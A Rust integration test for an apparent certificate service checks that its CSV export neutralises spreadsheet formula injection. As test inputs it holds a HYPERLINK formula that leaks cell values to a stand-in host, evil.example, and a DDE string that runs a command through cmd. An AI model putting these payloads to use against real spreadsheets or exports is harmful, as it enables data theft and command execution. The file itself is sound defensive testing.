//! The security probe's findings beyond query input: CSV injection through request ids and
//! thing names, the audit flood of failed sign-ins, server-side dashboard sessions, the role
//! checked before the body, and the smaller items (two Authorization headers, station names
//! from certificates, file modes).

use crate::common::*;
use crate::on_both_backends;
use reqwest::StatusCode;

on_both_backends!(exported_cells_never_start_a_formula,);

/// The CSV export's rows as fields (quotes handled; no field here spans lines).
fn csv_rows(text: &str) -> Vec<Vec<String>> {
    text.split("\r\n")
        .filter(|line| !line.is_empty())
        .map(|line| {
            let mut fields = Vec::new();
            let mut field = String::new();
            let mut quoted = false;
            let mut chars = line.chars().peekable();
            while let Some(c) = chars.next() {
                match c {
                    '"' if quoted && chars.peek() == Some(&'"') => {
                        field.push('"');
                        chars.next();
                    }
                    '"' => quoted = !quoted,
                    ',' if !quoted => fields.push(std::mem::take(&mut field)),
                    c => field.push(c),
                }
            }
            fields.push(field);
            fields
        })
        .collect()
}

async fn exported_cells_never_start_a_formula(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let payload = r#"=HYPERLINK("http://evil.example/?leak="&B2&L2,"Open")"#;
    let response = app
        .client
        .post(app.url("/v1/certificates"))
        .bearer_auth(&app.station)
        .header("x-request-id", payload)
        .json(&serde_json::json!({ "csr": csr("-cmd:1", "JP").pem }))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::CREATED);
    // The formula is not kept as the request id: a UUID replaces it.
    let id = response.headers()["x-request-id"]
        .to_str()
        .unwrap()
        .to_owned();
    assert_ne!(id, payload);
    assert!(uuid::Uuid::parse_str(&id).is_ok(), "{id}");
    let dde = app
        .client
        .post(app.url("/v1/certificates"))
        .bearer_auth(&app.station)
        .header("x-request-id", "@SUM(1+1)*cmd|' /C calc'!A0")
        .json(&serde_json::json!({ "csr": csr("line-b-1", "JP").pem }))
        .send()
        .await
        .unwrap();
    assert_eq!(dde.status(), StatusCode::CREATED);
    assert!(uuid::Uuid::parse_str(dde.headers()["x-request-id"].to_str().unwrap()).is_ok());

    // A row stored before the rule (or by hand) is neutralised in the export.
    app.execute_sql(
        "UPDATE issued_certificates SET request_id = '+cmd' WHERE thing_name = 'line-b-1'",
    )
    .await;
    let response = app
        .get(&app.viewer, "/v1/certificates/export.csv?sort=asc")
        .await;
    assert_eq!(response.status(), StatusCode::OK);
    let rows = csv_rows(&response.text().await.unwrap());
    assert_eq!(rows.len(), 3);
    for row in &rows[1..] {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell a spreadsheet evaluates: {cell:?} in {row:?}"
            );
        }
    }
    let column = |name: &str| rows[0].iter().position(|c| c == name).unwrap();
    assert_eq!(rows[1][column("thing_name")], "'-cmd:1");
    assert_eq!(rows[1][column("request_id")], id);
    assert_eq!(rows[2][column("request_id")], "'+cmd");
}
